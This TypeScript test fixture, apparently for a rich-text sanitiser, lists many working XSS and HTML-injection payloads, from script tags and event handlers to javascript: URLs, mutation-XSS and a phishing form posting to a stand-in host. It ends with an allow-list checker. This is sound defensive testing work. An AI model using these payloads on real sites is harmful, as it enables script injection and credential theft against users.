// HTML that tries to run a script, load from another host, take the page over or confuse a parser,
// by known techniques. Each calls `hacked()` if it succeeds.
import { type DefaultTreeAdapterTypes, parseFragment, serialize } from 'parse5'

/** The function that a successful vector calls. */
export const call = 'hacked()'

/** A picture of the shop, which rich text may contain. */
export const shopPicture = `/files/${'a'.repeat(64)}.webp`

/** All vectors, without duplicates. */
export const richTextVectors: string[] = [
  ...new Set([
    ...scripts(),
    ...handlers(),
    ...hostileAddresses(),
    ...foreignContent(),
    ...brokenMarkup(),
    ...mutations(),
    ...takeovers(),
    ...styles(),
    ...embedded(),
  ]),
]

function scripts(): string[] {
  return [
    `<script>${call}</script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<script src="https://evil.example/x.js" async></script>`,
    `<script type="module">${call}</script>`,
    `<script>/*</script><script>*/${call}</script>`,
    `<script/x>${call}</script >`,
    `<script\n>${call}</script\n>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<<script>${call}//<</script>`,
    `<script>${call}`,
    `<script\x0b>${call}</script>`,
    `</script><script>${call}</script>`,
    `<p><script>${call}</script></p>`,
    `<b><script>${call}</script></b>`,
    `<table><script>${call}</script></table>`,
    `<noscript><script>${call}</script></noscript>`,
    `<template><script>${call}</script></template>`,
    `<a href="/x"><script>${call}</script></a>`,
    `<script nonce="x">${call}</script>`,
    `<script type="application/json">{"x":"</script><script>${call}</script>"}`,
    `<ScRiPt>${call}</sCrIpT>`,
    `<script defer>${call}</script>`,
    `<script language="vbscript">${call}</script>`,
    `<xss><script>${call}</script></xss>`,
  ]
}

/** An event handler on each kind of element, including allowed ones, in many spellings. */
function handlers(): string[] {
  const elements = [
    'p',
    'a href="/x"',
    `img src="${shopPicture}"`,
    'img src=x',
    'h2',
    'blockquote',
    'table',
    'td',
    'ol start=1',
    'figure',
    'code',
    'hr',
    'br',
    'div',
    'span',
    'body',
    'marquee',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'button',
    'select autofocus',
    'textarea autofocus',
    'keygen autofocus',
    'custom-element',
  ]
  const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle']
  return [
    ...elements.map((element, at) => `<${element} ${events[at % events.length]}="${call}">x`),
    ...[
      'onanimationstart',
      'onpointerenter',
      'onbeforetoggle',
      'oncontentvisibilityautostatechange',
    ].map((event) => `<p style="animation:x" ${event}="${call}">x</p>`),
    `<img src=x onerror=${call}>`,
    `<img src=x onerror='${call}'>`,
    `<img src=x OnErRoR=${call}>`,
    `<img/src=x/onerror=${call}>`,
    `<img\nsrc=x\nonerror=${call}>`,
    `<img src=x onerror\n=\n${call}>`,
    `<img src=x onerror\t=${call}>`,
    `<img src=x onerror="&#104;acked()">`,
    `<img src=x onerror=${call}//`,
    `<img src="x" title="" onerror="${call}"">`,
    `<img alt="x"onerror=${call} src=x>`,
    `<img src=x " onerror=${call}>`,
    `<img src=x:x onerror\x0c=${call}>`,
    `<img src="${shopPicture}" onload="${call}" alt="a">`,
    `<img src='x'' onerror=${call}>`,
    '<img src=x onerror=`hacked()`>',
    `<p onclick ="${call}" onclick="x">x</p>`,
    `<a href="/x" onclick="${call}" onauxclick="${call}">x</a>`,
    `<p title="x" onmouseover=${call} data-x>x</p>`,
    `<img srcset="x" onerror="${call}">`,
  ]
}

function foreignContent(): string[] {
  return [
    `<svg onload=${call}>`,
    `<svg/onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><script href="data:,${call}"/></svg>`,
    `<svg><a xlink:href="javascript:${call}"><text y=1em>x</text></a></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<svg><a><animate attributeName=href values="javascript:${call}"/><text>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to=${call}>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
    `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${call}></style></svg>`,
    `<svg><desc><img src=x onerror=${call}></desc></svg>`,
    `<svg><image href=x onerror=${call}>`,
    `<svg><discard onbegin=${call}>`,
    `<math href="javascript:${call}">x</math>`,
    `<math><mtext><img src=x onerror=${call}></mtext></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}">x</maction></math>`,
  ]
}

/** Markup that parsers disagree on. */
function brokenMarkup(): string[] {
  return [
    `<!--><img src=x onerror=${call}>-->`,
    `<!---><img src=x onerror=${call}>-->`,
    `<!-- --!><img src=x onerror=${call}> -->`,
    `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
    `<![CDATA[<img src=x onerror=${call}>]]>`,
    `<?xml version="1.0"?><img src=x onerror=${call}>`,
    `<!DOCTYPE html [<!ENTITY x "<script>${call}</script>">]>&x;`,
    `<title><img src=x onerror=${call}></title>`,
    `</title><img src=x onerror=${call}>`,
    `<textarea></textarea><img src=x onerror=${call}>`,
    `<textarea><img title="</textarea><img src=x onerror=${call}>"></textarea>`,
    `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
    `<noframes><p title="</noframes><img src=x onerror=${call}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
    `<plaintext><img src=x onerror=${call}>`,
    `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
    `<iframe><p title="</iframe><img src=x onerror=${call}>"></iframe>`,
    `<style><p title="</style><img src=x onerror=${call}>"></style>`,
    `<p title="<img src=x onerror=${call}>">x</p>`,
    `<p title='"><img src=x onerror=${call}>'>x</p>`,
    `<a title="x>y" href="javascript:${call}">x</a>`,
    `<img """><script>${call}</script>">`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    `&amp;lt;img src=x onerror=${call}&amp;gt;`,
    `%3Cscript%3E${call}%3C/script%3E`,
    `\u003cscript\u003e${call}\u003c/script\u003e`,
    `＜script＞${call}＜/script＞`,
    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `${'<div>'.repeat(600)}<img src=x onerror=${call}>`,
    `${'<b><p>'.repeat(60)}<img src=x onerror=${call}>`,
    `<select><option><img src=x onerror=${call}></option></select>`,
    `<select><template><img src=x onerror=${call}></template></select>`,
    `<table><td><select><table><img src=x onerror=${call}>`,
    `<a href="/x" <img src=x onerror=${call}>>x</a>`,
  ]
}

/** Known mutations: harmless markup that becomes harmful when serialised and parsed again. */
function mutations(): string[] {
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
    `<math><mtext><table><mglyph><style><math><img src onerror=${call}>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
    `<svg><p><style><a title="</style><img src onerror=${call}>"></style></p></svg>`,
    `<svg><title><style><img src onerror=${call}></style></title></svg>`,
    `<math><mi><table><mi><mi><style><p title="</style><img src onerror=${call}>">`,
    `<noscript><style></noscript><img src=x onerror=${call}></style></noscript>`,
    `<table><a href="javascript:${call}"><tr><td>x</td></tr></a></table>`,
    `<p><svg><desc><table><a title="</desc><img src onerror=${call}>">`,
    `<listing>\n<img title="</listing><img src onerror=${call}>">`,
    `<p id="</p><img src onerror=${call}>"><style><!--</style>--></p>`,
    `<b><table><i></b><img src onerror=${call}></i></table>`,
    `<a><svg><a><style><img title="</style><img src onerror=${call}>"></a></svg></a>`,
  ]
}

/** Attacks without a script: forms, base addresses, refreshes, names that shadow the page's own. */
function takeovers(): string[] {
  return [
    `<form action="https://evil.example"><input name=pin><button>Log in</button></form>`,
    `<form action="javascript:${call}"><button>x</button></form>`,
    `<button form=x formaction="javascript:${call}">x</button>`,
    `<input type=image src=x onerror=${call}>`,
    `<isindex type=image src=1 onerror=${call}>`,
    `<base href="https://evil.example/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
    `<link rel=stylesheet href="https://evil.example/x.css">`,
    `<link rel=prefetch href="https://evil.example/x">`,
    `<html onload=${call}><body>x`,
    `<head><script>${call}</script></head>`,
    `<frameset onload=${call}>`,
    `<dialog open>Log in again</dialog>`,
    `<p id="root" class="toast">x</p>`,
    `<a id=config><a id=config name=token href="/x">x</a>`,
    `<img name=cookie src="${shopPicture}">`,
    `<p popover id=x>x</p><button popovertarget=x>x</button>`,
    `<p contenteditable tabindex=1 accesskey=x autofocus onfocus=${call}>x</p>`,
    `<slot name=x></slot><p slot=x is=x part=x>x</p>`,
    `<p data-sonner-toast data-theme=light>x</p>`,
  ]
}

function styles(): string[] {
  return [
    `<style>@import "https://evil.example/x.css";</style>`,
    `<style>*{background:url(https://evil.example/x)}</style>`,
    `<p style="background:url(javascript:${call})">x</p>`,
    `<p style="width:expression(${call})">x</p>`,
    `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
    `<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>`,
    `<font color="red" face="x" size=7>x</font>`,
    `<center><blink><marquee>x</marquee></blink></center>`,
  ]
}

function embedded(): string[] {
  return [
    `<iframe src="javascript:${call}"></iframe>`,
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    `<iframe src="https://evil.example"></iframe>`,
    `<object data="data:text/html,<script>${call}</script>"></object>`,
    `<object><param name=code value="x"></object>`,
    `<embed src="javascript:${call}">`,
    `<embed src="data:image/svg+xml,<svg onload=${call}>">`,
    `<applet code=x></applet>`,
    `<video><source onerror=${call}></video>`,
    `<video poster="javascript:${call}" src=x></video>`,
    `<audio autoplay src="https://evil.example/x.mp3"></audio>`,
    `<picture><source srcset="https://evil.example/x"><img src="${shopPicture}"></picture>`,
    `<canvas onfocus=${call} tabindex=1></canvas>`,
    `<portal src="https://evil.example"></portal>`,
    `<fencedframe src="https://evil.example"></fencedframe>`,
    `<bgsound src="javascript:${call}">`,
    `<layer src="javascript:${call}"></layer>`,
    `<webview src="https://evil.example"></webview>`,
  ]
}

/** Executable addresses in every attribute that takes an address. */
export function hostileAddresses(): string[] {
  const running = [
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    `  javascript:${call}`,
    `java\nscript:${call}`,
    `java\tscript:${call}`,
    `java&#10;script:${call}`,
    `java&Tab;script:${call}`,
    `javascript&colon;${call}`,
    `&#106;avascript:${call}`,
    `&#x6A;&#x61;vascript:${call}`,
    `&#0000106avascript:${call}`,
    `\x01javascript:${call}`,
    `\x1fjavascript:${call}`,
    `&#1;javascript:${call}`,
    `javascript://%0a${call}`,
    `javascript:/*--></title></style></textarea></script><svg/onload=${call}>`,
    `vbscript:${call}`,
    `livescript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`,
    `DATA:image/svg+xml,<svg onload=${call}>`,
    `blob:https://evil.example/1`,
    `filesystem:https://evil.example/1`,
    `view-source:javascript:${call}`,
    `feed:javascript:${call}`,
    `jar:javascript:${call}!/`,
    `file:///etc/passwd`,
    `//evil.example/x`,
    `\\\\evil.example\\x`,
  ]
  return [
    ...running.map((address) => `<a href="${address}">x</a>`),
    ...running.slice(0, 8).map((address) => `<img src="${address}">`),
    `<a href=javascript:${call}>x</a>`,
    `<a href='javascript:${call}' target="_blank">x</a>`,
    `<a xlink:href="javascript:${call}">x</a>`,
    `<a ping="https://evil.example" href="/x">x</a>`,
    `<a href="/x" target="name" rel="opener">x</a>`,
    `<a href="https://evil.example" target="_blank" rel="opener">x</a>`,
    `<blockquote cite="javascript:${call}">x</blockquote>`,
    `<img src="https://evil.example/pixel.gif">`,
    `<img srcset="https://evil.example/x.png 1x" src="${shopPicture}">`,
    `<img lowsrc="javascript:${call}" dynsrc="javascript:${call}">`,
    `<img src="${shopPicture}?x=javascript:${call}">`,
    `<img src="/files/../api/user">`,
    `<table background="javascript:${call}"><tr><td background="https://evil.example/x">x</table>`,
    `<area href="javascript:${call}">`,
    `<map name=m><area shape=default href="javascript:${call}"></map><img usemap=#m src="${shopPicture}">`,
  ]
}

type Node = DefaultTreeAdapterTypes.ChildNode | DefaultTreeAdapterTypes.DocumentFragment
type Element = DefaultTreeAdapterTypes.Element

// Repeated here rather than imported, so that an addition to the sanitiser fails a test.
const elements = new Set(
  'h2 h3 h4 p br hr strong em b i u s sub sup small blockquote pre code ul ol li dl dt dd figure figcaption table caption colgroup thead tbody tfoot tr th td a img'.split(
    ' ',
  ),
)
const attributes: Record<string, RegExp> = {
  'a href': /^(https?:\/\/|mailto:|tel:|#|\/(?![/\\])|[\w.-]+([/?#]|$))/i,
  'a target': /^_blank$/,
  'a rel': /^noopener$/,
  'img src': /^\/files\/[0-9a-f]{64}\.(webp|png|jpg|avif)$/,
  'img alt': /^/,
  'img width': /^\d{1,4}$/,
  'img height': /^\d{1,4}$/,
  'img loading': /^lazy$/,
  'img decoding': /^async$/,
  'ol start': /^/,
  'th colspan': /^/,
  'th rowspan': /^/,
  'th scope': /^/,
  'td colspan': /^/,
  'td rowspan': /^/,
}

/**
 * The active parts of this HTML by a browser's parser, parsed once and again after serialising.
 * Empty if inert.
 */
export function activeParts(html: string): string[] {
  return [true, false].flatMap((scriptingEnabled) => {
    const read = parseFragment(html, { scriptingEnabled })
    const again = parseFragment(serialize(read), { scriptingEnabled })
    return [read, again].flatMap(partsOf)
  })
}

function partsOf(node: Node): string[] {
  if (node.nodeName === '#text') return []
  if (node.nodeName === '#document-fragment') return childrenOf(node)
  if (!('tagName' in node)) return [node.nodeName]
  return [...faultsOf(node), ...childrenOf(node)]
}

function childrenOf(node: Node): string[] {
  return 'childNodes' in node ? node.childNodes.flatMap(partsOf) : []
}

function faultsOf({ tagName, attrs, namespaceURI }: Element): string[] {
  const isHtml = namespaceURI === 'http://www.w3.org/1999/xhtml'
  if (!isHtml || !elements.has(tagName)) return [`<${tagName}>`]
  const faults = attrs
    .filter(({ name, value }) => !attributes[`${tagName} ${name}`]?.test(value))
    .map(({ name, value }) => `<${tagName} ${name}="${value}">`)
  const opensFreely = tagName === 'a' && !attrs.some(({ name }) => name === 'rel')
  return opensFreely ? [...faults, '<a> without rel'] : faults
}
